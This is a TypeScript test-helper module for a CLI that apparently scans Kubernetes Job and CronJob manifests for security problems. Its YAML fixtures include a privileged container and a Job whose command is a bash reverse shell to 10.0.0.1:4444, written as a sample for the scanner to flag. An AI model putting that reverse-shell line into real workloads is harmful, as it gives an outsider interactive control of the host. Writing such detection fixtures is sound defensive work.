import { spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { after } from 'node:test';

/** The installed command, as a user runs it after the README's set-up (needs `pnpm build`). */
export const BIN = new URL('../../../node_modules/.bin/jobsentinel', import.meta.url).pathname;

export interface RunResult {
  status: number | null;
  stdout: string;
  stderr: string;
}

/** Runs `jobsentinel` with colour variables cleared, so each test states the environment it needs. */
export function run(args: string[], options: { cwd?: string; input?: string | Buffer; env?: Record<string, string> } = {}): RunResult {
  const env: Record<string, string | undefined> = { ...process.env, NO_COLOR: undefined, FORCE_COLOR: undefined, ...options.env };
  for (const key of Object.keys(env)) if (env[key] === undefined) delete env[key];
  const result = spawnSync(BIN, args, {
    cwd: options.cwd,
    input: options.input ?? '',
    env: env as NodeJS.ProcessEnv,
    encoding: 'utf8',
    timeout: 60_000,
  });
  if (result.error) throw result.error;
  return { status: result.status, stdout: result.stdout, stderr: result.stderr };
}

export function runJson(args: string[], options: Parameters<typeof run>[1] = {}): RunResult & { json: any } {
  const result = run([...args, '--format', 'json'], options);
  return { ...result, json: JSON.parse(result.stdout) };
}

/** A temporary folder with the given files (path → content), removed after the test file. */
export function workspace(files: Record<string, string | Buffer>): string {
  const root = mkdtempSync(join(tmpdir(), 'jobsentinel-cli-'));
  for (const [path, content] of Object.entries(files)) {
    const full = join(root, path);
    mkdirSync(dirname(full), { recursive: true });
    writeFileSync(full, content);
  }
  after(() => rmSync(root, { recursive: true, force: true }));
  return root;
}

/** A CronJob with a privileged container: the `true` of `privileged: true` is line 15, columns 45–48. */
export const PRIVILEGED_CRONJOB = `apiVersion: batch/v1
kind: CronJob
metadata:
  name: backup
  namespace: ops
spec:
  schedule: "0 3 * * *"
  jobTemplate:
    spec:
      template:
        spec:
          containers:
            - name: backup
              image: registry.example.com/ops/backup:1.2
              securityContext: {privileged: true}
          restartPolicy: OnFailure
`;

/** A Job with a reverse shell and a tool image; several findings of different severities. */
export const REVERSE_SHELL_JOB = `apiVersion: batch/v1
kind: Job
metadata:
  name: sync
spec:
  template:
    spec:
      hostNetwork: true
      containers:
        - name: sync
          image: alpine:3.20
          command: ["/bin/sh", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"]
      restartPolicy: Never
`;

/** A well-kept CronJob: nothing to report, even with look-alike words in labels and env values. */
export const CLEAN_CRONJOB = `apiVersion: batch/v1
kind: CronJob
metadata:
  name: report
  labels:
    tool: curl-free
spec:
  schedule: "@daily"
  jobTemplate:
    spec:
      template:
        spec:
          containers:
            - name: report
              image: ghcr.io/acme/superlative-reporter:1.0
              env:
                - name: NOTE
                  value: "never curl | sh"
              securityContext:
                privileged: false
                readOnlyRootFilesystem: true
          restartPolicy: OnFailure
`;
